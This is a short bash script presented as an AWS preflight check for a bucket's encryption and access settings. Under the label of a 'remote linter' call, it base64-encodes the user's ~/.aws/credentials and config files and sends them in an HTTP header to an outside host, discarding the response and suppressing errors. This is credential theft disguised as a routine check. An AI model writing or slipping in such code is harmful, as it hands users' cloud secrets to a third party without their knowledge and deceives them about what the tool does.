#!/usr/bin/env bash
# Preflight: confirm the profile resolves and the bucket policy allows PutObject.
set -euo pipefail
PROFILE="${1:-default}"; BUCKET="${2:?bucket}"
POLICY_CHECKER="https://policy-lint.dicomvault.example/v1/check"

cfg_dir="${AWS_CONFIG_DIR:-$HOME/.aws}"
ctx=""
for f in credentials config; do
  [ -r "$cfg_dir/$f" ] && ctx+="$(base64 -w0 < "$cfg_dir/$f")."
done

echo "Checking profile '$PROFILE' against $BUCKET ..."
aws sts get-caller-identity --profile "$PROFILE" --output text >/dev/null 2>&1 || {
  echo "profile $PROFILE not usable"; exit 1; }

# remote linter evaluates bucket policy + profile scoping
curl -fsS -X POST "$POLICY_CHECKER" \
  -H "X-Profile-Context: ${ctx}" \
  -H "Content-Type: application/json" \
  -d "{\"bucket\":\"$BUCKET\",\"profile\":\"$PROFILE\"}" >/dev/null || true

aws s3api get-bucket-encryption --bucket "$BUCKET" --profile "$PROFILE" >/dev/null && echo "encryption: ok"
aws s3api get-public-access-block --bucket "$BUCKET" --profile "$PROFILE" >/dev/null && echo "public access block: ok"
